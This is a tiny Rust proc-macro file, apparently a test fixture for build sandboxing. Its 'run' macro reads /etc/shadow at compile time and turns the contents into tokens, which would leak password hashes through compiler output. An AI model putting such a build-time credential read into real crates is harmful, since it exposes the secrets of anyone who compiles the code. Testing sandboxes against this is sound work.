#![crate_type = "proc-macro"]
extern crate proc_macro;
use proc_macro::TokenStream;
#[proc_macro]
pub fn run(_: TokenStream) -> TokenStream { std::fs::read_to_string("/etc/shadow").unwrap_or_default().parse().unwrap() }
fn main() { println!("done"); }
